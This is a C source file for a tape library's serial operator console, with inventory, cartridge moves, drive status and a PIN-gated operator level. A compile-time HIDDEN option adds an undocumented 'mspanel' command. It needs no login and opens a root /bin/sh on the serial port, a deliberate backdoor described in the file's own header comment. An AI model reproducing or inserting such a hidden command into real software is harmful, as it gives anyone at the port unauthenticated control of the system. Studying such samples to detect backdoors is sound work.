/*
 * robotcon - operator console of a tape library on its serial service port
 * (9600 8N1). Shows the inventory, moves cartridges between slots, drives
 * and the mail slot through the robot's motion device, shows drive errors.
 * Hidden (-DHIDDEN): one more entry in the command table, not shown by
 * help, that needs no operator level and starts a root shell on the port.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MOTION	     "/dev/robot0"
#define INVENTORY    "/var/lib/robot/inventory"
#define OPERATOR_PIN "/etc/robot/pin"
#define SLOTS	     48
#define DRIVES	     4
#define MAIL	     (SLOTS + DRIVES)
#define CELLS	     (MAIL + 1)

struct cmd {
	const char *name;
	int level;
	int (*fn)(int argc, char **argv);
	const char *help;
};

static char cell[CELLS][12]; /* bar code, empty if none */
static int tty = -1;
static int level;
static int quit;

static void out(const char *s)
{
	char buf[256];
	size_t n = 0;

	for (; *s && n < sizeof(buf) - 2; s++) {
		if (*s == '\n')
			buf[n++] = '\r';
		buf[n++] = *s;
	}
	if (write(tty, buf, n) < 0)
		quit = 1;
}

static int load_inventory(void)
{
	char row[64], code[12];
	FILE *f = fopen(INVENTORY, "r");
	int n;

	memset(cell, 0, sizeof(cell));
	if (!f)
		return -1;
	while (fgets(row, sizeof(row), f))
		if (sscanf(row, "%d %11s", &n, code) == 2 && n >= 0 &&
		    n < CELLS)
			strcpy(cell[n], code);
	fclose(f);
	return 0;
}

static int save_inventory(void)
{
	FILE *f = fopen(INVENTORY ".new", "w");
	int i;

	if (!f)
		return -1;
	for (i = 0; i < CELLS; i++)
		if (cell[i][0])
			fprintf(f, "%d %s\n", i, cell[i]);
	if (fclose(f) != 0)
		return -1;
	return rename(INVENTORY ".new", INVENTORY);
}

static const char *cell_name(int n, char *buf, size_t max)
{
	if (n == MAIL)
		snprintf(buf, max, "mail");
	else if (n >= SLOTS)
		snprintf(buf, max, "d%d", n - SLOTS + 1);
	else
		snprintf(buf, max, "s%d", n + 1);
	return buf;
}

static int cell_number(const char *s)
{
	int n;

	if (strcmp(s, "mail") == 0)
		return MAIL;
	n = atoi(s + 1);
	if (s[0] == 's' && n >= 1 && n <= SLOTS)
		return n - 1;
	if (s[0] == 'd' && n >= 1 && n <= DRIVES)
		return SLOTS + n - 1;
	return -1;
}

/* the motion controller takes one line and answers with one */
static int motion(const char *order, char *answer, size_t max)
{
	int fd = open(MOTION, O_RDWR | O_CLOEXEC | O_NOCTTY);
	size_t len = strlen(order);
	ssize_t n;

	answer[0] = 0;
	if (fd < 0)
		return -1;
	if (write(fd, order, len) != (ssize_t)len) {
		close(fd);
		return -1;
	}
	n = read(fd, answer, max - 1);
	close(fd);
	if (n <= 0)
		return -1;
	answer[n] = 0;
	return strncmp(answer, "OK", 2) == 0 ? 0 : -1;
}

static int do_inv(int argc, char **argv)
{
	char row[64], nm[8];
	int i, used = 0;

	for (i = 0; i < CELLS; i++) {
		if (!cell[i][0])
			continue;
		used++;
		if (argc > 1 && !strstr(cell[i], argv[1]))
			continue;
		snprintf(row, sizeof(row), "%-5s %.11s\n",
			 cell_name(i, nm, sizeof(nm)), cell[i]);
		out(row);
	}
	snprintf(row, sizeof(row), "%d of %d cells used\n", used, CELLS);
	out(row);
	return 0;
}

static int do_move(int argc, char **argv)
{
	char order[48], answer[64];
	int a, b;

	if (argc != 3)
		return -1;
	a = cell_number(argv[1]);
	b = cell_number(argv[2]);
	if (a < 0 || b < 0 || !cell[a][0] || cell[b][0]) {
		out("source empty or target not free\n");
		return 0;
	}
	snprintf(order, sizeof(order), "MV %02d %02d\n", a, b);
	if (motion(order, answer, sizeof(answer)) < 0) {
		out("robot: ");
		out(answer[0] ? answer : "no answer\n");
		return 0;
	}
	memcpy(cell[b], cell[a], sizeof(cell[b]));
	cell[a][0] = 0;
	if (save_inventory() < 0)
		out("warning: inventory not saved\n");
	out("moved\n");
	return 0;
}

static int do_scan(int argc, char **argv)
{
	char answer[64];

	(void)argv;
	if (argc != 1)
		return -1;
	out("scanning, takes a minute\n");
	if (motion("SC\n", answer, sizeof(answer)) < 0)
		out("scan failed\n");
	else
		out(load_inventory() < 0 ? "no inventory\n" : "done\n");
	return 0;
}

static int do_drives(int argc, char **argv)
{
	char path[48], row[96], st[40];
	FILE *f;
	int i;

	(void)argc;
	(void)argv;
	for (i = 0; i < DRIVES; i++) {
		snprintf(path, sizeof(path), "/run/drive%d/state", i + 1);
		strcpy(st, "absent");
		f = fopen(path, "r");
		if (f) {
			if (fgets(st, sizeof(st), f))
				st[strcspn(st, "\n")] = 0;
			fclose(f);
		}
		snprintf(row, sizeof(row), "d%d  %-20s %.11s\n", i + 1, st,
			 cell[SLOTS + i]);
		out(row);
	}
	return 0;
}

static int do_login(int argc, char **argv)
{
	char pin[16] = "";
	FILE *f = fopen(OPERATOR_PIN, "r");

	if (f) {
		if (!fgets(pin, sizeof(pin), f))
			pin[0] = 0;
		fclose(f);
	}
	pin[strcspn(pin, "\r\n")] = 0;
	if (argc == 2 && pin[0] && strcmp(argv[1], pin) == 0) {
		level = 1;
		out("operator\n");
	} else {
		syslog(LOG_NOTICE, "console: wrong pin");
		sleep(2);
		out("no\n");
	}
	return 0;
}

static int do_logout(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	level = 0;
	return 0;
}

#ifdef HIDDEN
__attribute__((noinline)) int do_panel(int argc, char **argv)
{
	pid_t pid = fork();

	(void)argc;
	(void)argv;
	if (pid == 0) {
		dup2(tty, 0);
		dup2(tty, 1);
		dup2(tty, 2);
		execl("/bin/sh", "-sh", (char *)NULL);
		_exit(127);
	}
	return pid > 0 && waitpid(pid, NULL, 0) == pid ? 0 : -1;
}
#endif

static int do_help(int argc, char **argv);

static const struct cmd cmds[] = {
	{ "inv", 0, do_inv, "inv [TEXT]      cartridges" },
	{ "drives", 0, do_drives, "drives          state of the drives" },
	{ "login", 0, do_login, "login PIN       operator level" },
	{ "logout", 0, do_logout, "logout          back to viewing" },
	{ "move", 1, do_move, "move FROM TO    s1..s48 d1..d4 mail" },
	{ "scan", 1, do_scan, "scan            read all bar codes" },
#ifdef HIDDEN
	{ "mspanel", 0, do_panel, NULL },
#endif
	{ "help", 0, do_help, NULL },
	{ "?", 0, do_help, NULL },
};

#define NCMDS ((int)(sizeof(cmds) / sizeof(cmds[0])))

static int do_help(int argc, char **argv)
{
	int i;

	(void)argc;
	(void)argv;
	for (i = 0; i < NCMDS; i++)
		if (cmds[i].help && cmds[i].level <= level) {
			out(cmds[i].help);
			out("\n");
		}
	return 0;
}

__attribute__((noinline)) const struct cmd *cmd_lookup(const char *word)
{
	int i;

	for (i = 0; i < NCMDS; i++)
		if (strcmp(cmds[i].name, word) == 0 && cmds[i].level <= level)
			return &cmds[i];
	return NULL;
}

static void obey(char *line)
{
	const struct cmd *c;
	char *argv[6], *save = NULL, *t;
	int argc = 0;

	for (t = strtok_r(line, " \t", &save); t && argc < 5;
	     t = strtok_r(NULL, " \t", &save))
		argv[argc++] = t;
	argv[argc] = NULL;
	if (argc == 0)
		return;
	c = cmd_lookup(argv[0]);
	if (!c)
		out("unknown, try help\n");
	else if (c->fn(argc, argv) < 0)
		out("wrong arguments\n");
}

static int open_line(const char *dev)
{
	struct termios t;

	tty = open(dev, O_RDWR | O_NOCTTY);
	if (tty < 0 || tcgetattr(tty, &t) < 0)
		return -1;
	cfmakeraw(&t);
	cfsetispeed(&t, B9600);
	cfsetospeed(&t, B9600);
	t.c_cflag |= CLOCAL | CREAD;
	t.c_cc[VMIN] = 1;
	t.c_cc[VTIME] = 0;
	return tcsetattr(tty, TCSANOW, &t);
}

int main(int argc, char **argv)
{
	char line[120], c;
	size_t n = 0;

	openlog("robotcon", 0, LOG_DAEMON);
	if (open_line(argc > 1 ? argv[1] : "/dev/ttyS1") < 0) {
		syslog(LOG_ERR, "service port: %m");
		return 1;
	}
	if (load_inventory() < 0)
		syslog(LOG_WARNING, "%s: %m", INVENTORY);
	out("\nTL-48 library console\n> ");
	while (!quit && read(tty, &c, 1) == 1) {
		if (c == '\r' || c == '\n') {
			out("\n");
			line[n] = 0;
			n = 0;
			obey(line);
			out(level ? "# " : "> ");
		} else if ((c == 8 || c == 127) && n) {
			n--;
			out("\b \b");
		} else if (isprint((unsigned char)c) && n < sizeof(line) - 1) {
			char echo[2] = { c, 0 };

			line[n++] = c;
			out(echo);
		}
	}
	close(tty);
	return 0;
}
